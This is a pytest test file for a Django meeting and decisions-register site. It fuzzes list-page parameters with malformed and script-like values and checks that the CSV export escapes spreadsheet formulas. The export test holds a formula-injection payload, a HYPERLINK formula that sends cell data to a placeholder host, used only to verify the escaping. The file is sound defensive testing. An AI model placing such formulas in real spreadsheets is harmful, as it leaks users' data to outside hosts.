"""Bad input in a page's address gets a clear answer, never a 500.

Every GET parameter of every list page (found with `grep -rn request.GET`) is fuzzed with
values a person, a crawler or an attacker might send, as the people who may see the page."""

import csv
import io
from datetime import date

import pytest
from django.test import Client

from meetings.tests.factories import schedule
from minutes.models import FollowUpAction
from minutes.tests.test_register import minutes_with_actions

pytestmark = pytest.mark.django_db

BAD_VALUES = [
    "abc",
    "0",
    "-1",
    "99999",
    "9" * 30,
    "",
    "2026-13-45",
    "'",
    '"><script>',
    "\x00",
    "a\x00b",
    "x" * 5000,
    "1e400",
    "%",
    "æøå",
]

# (path, parameters, who may see it)
LIST_PAGES = [
    ("/sekretariat/moeder/", ["aar"], "secretariat"),
    ("/sekretariat/moeder/ny/", ["forum"], "secretariat"),
    ("/sekretariat/organisationer/", ["q", "page"], "secretariat"),
    ("/sekretariat/personer/", ["q", "page"], "secretariat"),
    ("/sekretariat/medlemskaber/", ["q", "forum", "status", "page"], "secretariat"),
    ("/sekretariat/medlemskaber/ny/", ["forum"], "secretariat"),
    ("/sekretariat/temagrupper/", ["q", "page"], "secretariat"),
    ("/sekretariat/udbakke/", ["q", "status", "page"], "secretariat"),
    (
        "/beslutninger/",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "member",
    ),
    (
        "/beslutninger/eksport.csv",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "member",
    ),
    (
        "/beslutninger/",
        ["forum", "responsible", "status", "due_before", "overdue"],
        "secretariat",
    ),
    (
        "/delaftaler/",
        ["theme", "administration", "housing_organisation", "status"],
        "anonymous",
    ),
    (
        "/delaftaler/",
        ["theme", "administration", "housing_organisation", "status"],
        "secretariat",
    ),
    ("/indsatser/", ["type", "status"], "anonymous"),
]


@pytest.fixture
def clients(secretariat_client, member_client, anonymous_client) -> dict[str, Client]:
    return {
        "secretariat": secretariat_client,
        "member": member_client,
        "anonymous": anonymous_client,
    }


def _fuzz(client: Client, path: str, params: list[str]) -> list[tuple[str, str, int]]:
    failures = []
    for name in params:
        for value in BAD_VALUES:
            response = client.get(path, {name: value})
            if response.status_code >= 500:
                failures.append((name, value[:20], response.status_code))
        # repeated keys, and every parameter bad at once
        response = client.get(path, {name: ["1", "abc", "\x00"]})
        if response.status_code >= 500:
            failures.append((name, "repeated", response.status_code))
    for value in BAD_VALUES:
        response = client.get(path, dict.fromkeys(params, value))
        if response.status_code >= 500:
            failures.append(("all", value[:20], response.status_code))
    return failures


@pytest.mark.parametrize(("path", "params", "who"), LIST_PAGES)
def test_no_list_page_answers_500_to_bad_parameters(clients, path, params, who):
    response = clients[who].get(path)
    assert response.status_code == 200, "the page itself must answer to this visitor"
    assert _fuzz(clients[who], path, params) == []


def test_a_bad_year_in_the_meeting_list_is_explained_and_the_current_year_shown(
    secretariat_client, forums
):
    schedule(forums["samarbejdsforum"], day=date(date.today().year + 1, 6, 10))
    for value in ("abc", "0", "99999", "-1"):
        response = secretariat_client.get("/sekretariat/moeder/", {"aar": value})
        assert response.status_code == 200
        assert response.context["year"] == date.today().year
        shown = [str(m) for m in response.context["messages"]]
        assert any(m.startswith("Filteret »År« ignoreres") for m in shown), shown


def test_a_search_with_a_nul_byte_is_ignored_and_the_other_filters_still_apply(
    secretariat_client, member_user
):
    response = secretariat_client.get(
        "/sekretariat/medlemskaber/", {"q": "a\x00b", "forum": "samarbejdsforum"}
    )
    assert response.status_code == 200
    assert response.context["q"] == ""
    assert response.context["selected_forum"] == "samarbejdsforum"
    assert {m.forum.slug for m in response.context["object_list"]} == {"samarbejdsforum"}


def test_a_bad_date_in_the_decisions_register_is_explained_and_the_other_filters_kept(
    member_client, forums
):
    response = member_client.get(
        "/beslutninger/", {"due_before": "2026-13-45", "status": "done", "forum": "x\x00"}
    )

    assert response.status_code == 200
    shown = [str(m) for m in response.context["messages"]]
    assert len(shown) == 2, shown
    assert any(m.startswith("Filteret »Frist til og med« ignoreres") for m in shown), shown
    assert response.context["form"].values()["status"] == "done"
    assert response.context["selected_forum"] == ""


# --- Spreadsheet exports ------------------------------------------------------------------


def test_the_decisions_register_csv_exports_formulas_as_text(
    forums, secretariat_user, secretariat_client, settings, tmp_path
):
    settings.PRIVATE_MEDIA_ROOT = str(tmp_path)
    hyperlink = '=HYPERLINK("http://x.example/?d="&A2;"Klik")'
    phone = "+45 33 66 33 66 kontaktes"
    minutes_with_actions(
        "samarbejdsforum",
        date(2027, 3, 10),
        secretariat_user,
        "@Beslutning",
        [
            (hyperlink, "BIF", date(2027, 4, 30), FollowUpAction.Status.OPEN),
            (phone, "TMF", date(2027, 6, 30), FollowUpAction.Status.OPEN),
        ],
    )

    response = secretariat_client.get("/beslutninger/eksport.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    actions = {row[4] for row in rows[1:]}
    assert actions == {"'" + hyperlink, "'" + phone}
    assert {row[3] for row in rows[1:]} == {"'@Beslutning"}
    assert FollowUpAction.objects.filter(what=hyperlink).exists()  # stored as typed
